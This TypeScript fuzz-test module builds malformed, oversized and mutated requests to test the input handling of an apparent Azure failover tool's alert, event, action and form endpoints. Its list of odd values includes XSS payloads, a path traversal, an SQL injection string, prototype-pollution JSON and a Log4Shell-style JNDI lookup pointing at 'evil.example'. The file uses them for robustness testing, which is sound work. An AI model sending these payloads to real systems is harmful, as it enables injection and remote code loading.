import fc from 'fast-check';
import { alertOf } from '../../simulator/stage/scene.ts';
import { anyForm, formHeaders, formQuery, writtenAsForm } from './forms.ts';
import { asked } from './waitingSite.ts';
import { scene } from './world.ts';

const zeros = `sha256:${'0'.repeat(64)}`;
const subscription = `/subscriptions/${scene.subscriptionId}`;
const accountOf = (id: string): string =>
  `/subscriptions/${id}/resourceGroups/x/providers/Microsoft.Storage/storageAccounts/x`;
const account = accountOf(scene.subscriptionId);
const operationName = 'Microsoft.Storage/storageAccounts/failover/action';
const failover = (resourceUri: string): object => ({
  id: '1',
  topic: subscription,
  subject: resourceUri,
  eventType: 'Microsoft.Resources.ResourceActionSuccess',
  eventTime: '2026-07-20T02:00:00Z',
  dataVersion: '2',
  data: { operationName, resourceUri },
});

/** What each door is meant to be sent: what is wrong is made of it, so that it is wrong deep inside. */
export const samples = {
  alert: [
    alertOf(scene, 'Active', Date.parse('2026-07-20T02:00:00Z')),
    alertOf(scene, 'Resolved', Date.parse('2026-07-20T02:30:00Z')),
    {
      schemaId: 'Microsoft.Insights/activityLogs',
      data: {
        status: 'Activated',
        context: {
          activityLog: {
            channels: 'Admin',
            eventSource: 'ServiceHealth',
            eventTimestamp: '2026-07-20T02:00:00Z',
            operationName: 'Microsoft.ServiceHealth/incident/action',
            level: 'Warning',
            status: 'Active',
            subscriptionId: scene.subscriptionId,
            properties: {
              title: '<b>Storage</b>',
              region: scene.home.displayName,
              service: 'Storage',
              incidentType: 'Incident',
              trackingId: 'ABCD-123',
              impactStartTime: '2026-07-20T01:00:00Z',
              impactedServices: `[{"ServiceName":"Storage","ImpactedRegions":[{"RegionName":"${scene.home.displayName}"}]}]`,
            },
          },
        },
      },
    },
  ],
  event: [
    [failover(account)],
    {
      specversion: '1.0',
      id: '1',
      source: subscription,
      subject: account,
      type: 'Microsoft.Resources.ResourceActionSuccess',
      time: '2026-07-20T02:00:00Z',
      data: { operationName },
    },
    [{ eventType: 'Microsoft.EventGrid.SubscriptionValidationEvent', data: { validationCode: 'abc' } }],
  ],
  word: [
    { site: scene.siteId },
    { action: 'apply', site: scene.siteId, digest: zeros, by: 'Ada', reason: 'because' },
    {
      action: 'declare',
      site: scene.siteId,
      kind: 'failover',
      services: ['Storage'],
      expiresAt: '2026-07-21T00:00:00Z',
    },
    { action: 'withdraw', site: scene.siteId, id: 'id-1' },
    { action: 'confirmDevice', site: scene.siteId, checksum: 'sha256:01234567' },
    { action: 'adopt', site: scene.siteId },
    { action: 'pause', site: scene.siteId, by: 'Ada' },
    { action: 'resume', site: scene.siteId },
    { action: 'move', site: scene.siteId, to: 'target' },
    { action: 'decline', site: scene.siteId, digest: zeros },
    { action: 'cancelMove', site: scene.siteId },
    { action: 'retryMove', site: scene.siteId },
    { action: 'standby', site: scene.siteId, want: 'up' },
    { action: 'acceptSnapshot', site: scene.siteId, side: 'home' },
  ],
  form: [
    { site: scene.siteId, ...asked, by: 'Ada' },
    { site: scene.siteId, ...asked, by: '' },
    { site: scene.siteId, ...asked },
  ],
  tags: [
    {
      changeNumber: 7,
      cloud: 'Public',
      values: [
        ['AzureCloud.uksouth', 'uksouth', ['20.10.0.0/24', '2603:1020::/40']],
        ['Storage.UKSouth', 'uksouth', ['20.10.2.0/28', '20.10.4.0/22']],
      ].map(([name, region, addressPrefixes]) => ({
        name,
        id: name,
        properties: {
          changeNumber: 1,
          region,
          platform: 'Azure',
          systemService: '',
          addressPrefixes,
          networkFeatures: ['API', 'UDR', 'FW'],
        },
      })),
    },
  ],
} as const;
export type Door = keyof typeof samples;

const deep = (depth: number): string => `${'['.repeat(depth)}1${']'.repeat(depth)}`;
const deepObject = (depth: number): string => `${'{"data":'.repeat(depth)}1${'}'.repeat(depth)}`;

/** What a careless reader trips over. */
const odd: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 3 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom<unknown>(
    null,
    '',
    '*',
    ' ',
    0,
    -1,
    1e308,
    2 ** 53,
    true,
    [],
    {},
    [[]],
    '__proto__',
    'constructor',
    'Global',
    '0.0.0.0/0',
    '10.0.0.0/33',
    '010.0.0.0/8',
    '::/0',
    '1.2.3.4/24',
    '9999-99-99T99:99:99Z',
    '+275760-09-13T00:00:00Z',
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '\u202Egnp.exe\u0000\uD800',
    '../../sites.json',
    `${account}/../..`,
    accountOf('s'.repeat(101)),
    accountOf('s'.repeat(1_900)),
    "'; DROP TABLE facts; --",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody might try
    '${jndi:ldap://evil.example/a}',
    JSON.parse('{"__proto__":{"acts":true},"constructor":{"prototype":{}}}'),
  ),
  fc.integer({ min: 100, max: 20_000 }).map((length) => 'A'.repeat(length)),
  fc.integer({ min: 100, max: 5_000 }).map((length) => Array.from({ length }, (_, index) => index)),
  fc.integer({ min: 10, max: 3_000 }).map((depth) => JSON.parse(deep(depth)) as unknown),
);

type Change = {
  readonly at: number;
  readonly how: 'put' | 'drop' | 'rename' | 'double' | 'wrap';
  readonly value: unknown;
};

/** The tree with one node changed, the `at`th in order of reading; texts that hold JSON count as leaves. */
const changed = (tree: unknown, change: Change): unknown => {
  let left = change.at;
  const visit = (node: unknown): unknown => {
    if (left < 0) return node;
    if (left === 0) {
      left -= 1;
      if (change.how === 'wrap') return [node];
      if (change.how === 'double') return Array.isArray(node) ? [...node, ...node] : { a: node, ...(node as object) };
      return change.how === 'put' ? change.value : undefined;
    }
    left -= 1;
    if (Array.isArray(node)) return node.map(visit);
    if (typeof node !== 'object' || node === null) return node;
    return Object.fromEntries(
      Object.entries(node).map(([key, value]) => [
        change.how === 'rename' && left === 0 ? String(change.value).slice(0, 20) : key,
        visit(value),
      ]),
    );
  };
  return visit(tree);
};

const change = fc.record({
  at: fc.nat(40),
  how: fc.constantFrom('put', 'put', 'put', 'drop', 'rename', 'double', 'wrap' as const),
  value: odd,
}) as fc.Arbitrary<Change>;

const writtenAsJson = (value: unknown): string => JSON.stringify(value) ?? 'undefined';

const bent = (door: Door): fc.Arbitrary<string> =>
  fc
    .tuple(fc.constantFrom<unknown>(...samples[door]), fc.array(change, { maxLength: 4 }))
    .map(([sample, changes]) => changes.reduce(changed, sample))
    .map(door === 'form' ? writtenAsForm : writtenAsJson);

/** Texts cut off, bytes turned over, marks in front: what becomes of a text on the way. */
const broken = (whole: fc.Arbitrary<string>): fc.Arbitrary<Uint8Array> =>
  fc
    .tuple(whole, fc.constantFrom('cut', 'flip', 'mark', 'twice', 'none', 'none', 'none'), fc.nat(), fc.nat(255))
    .map(([text, how, at, value]) => {
      const bytes = Buffer.from(how === 'mark' ? `\uFEFF${text}` : how === 'twice' ? text + text : text);
      if (how === 'cut') return bytes.subarray(0, at % (bytes.length + 1));
      if (how === 'flip' && bytes.length > 0) bytes[at % bytes.length] = value;
      return bytes;
    });

/** As large or deep as nobody sends by chance; seldom, since each takes its time. */
const huge = fc
  .tuple(fc.constantFrom('deep', 'deepObject', 'long', 'wide', 'many', 'over'), fc.integer({ min: 1, max: 100 }))
  .map(([kind, size]) => {
    if (kind === 'deep') return Buffer.from(deep(size * 1_000));
    if (kind === 'deepObject') return Buffer.from(deepObject(size * 1_000));
    if (kind === 'long')
      return Buffer.from(JSON.stringify({ schemaId: 'x'.repeat(size * 10_000), action: 'y'.repeat(size * 100) }));
    if (kind === 'wide')
      return Buffer.from(
        `[${Array(size * 1_000)
          .fill('{"eventType":"x"}')
          .join(',')}]`,
      );
    if (kind === 'many')
      return Buffer.from(
        JSON.stringify(Array.from({ length: size * 25 }, (_, n) => failover(accountOf(`many-${n}`.padEnd(36, '0'))))),
      );
    return Buffer.alloc(1024 * 1024 + size, 0x20);
  });

export type Input = {
  readonly body: Uint8Array;
  readonly headers: Readonly<Record<string, string>>;
  readonly method: string;
  /** What stands behind the `?` of the address. */
  readonly query: string;
};

const headerText = fc.oneof(fc.string({ maxLength: 60 }), fc.base64String({ maxLength: 60 })).map((text) =>
  // What no HTTP server lets through does not reach a door.
  text.replace(/[^\x20-\x7e]/g, ''),
);
const jsonType = { 'content-type': 'application/json' };
const headers = fc.oneof(
  { weight: 6, arbitrary: fc.constant(jsonType as Record<string, string>) },
  fc
    .record(
      {
        'content-type': headerText,
        authorization: headerText,
        'x-ms-client-principal': headerText,
        'aeg-event-type': headerText,
        'content-length': headerText,
      },
      { requiredKeys: [] },
    )
    .map((given): Record<string, string> => ({ ...jsonType, ...(given as Record<string, string>) })),
  fc
    .constantFrom('SubscriptionValidation', 'Notification')
    .map((type): Record<string, string> => ({ ...jsonType, 'aeg-event-type': type })),
);

/** Everything that may come to a door. */
export const inputsOf = (door: Door): fc.Arbitrary<Input> =>
  fc.record({
    body: fc.oneof(
      { weight: 60, arbitrary: broken(bent(door)) },
      { weight: 20, arbitrary: broken(door === 'form' ? anyForm : fc.json({ maxDepth: 6 })) },
      { weight: 15, arbitrary: fc.uint8Array({ maxLength: 200 }) },
      { weight: 1, arbitrary: huge },
    ),
    headers: door === 'form' ? formHeaders(headerText) : headers,
    method: fc.oneof({ weight: 30, arbitrary: fc.constant('POST') }, fc.constantFrom('GET', 'PUT', 'DELETE')),
    query: door === 'form' ? formQuery(fc.string({ unit: 'binary', maxLength: 60 })) : fc.constant(''),
  });
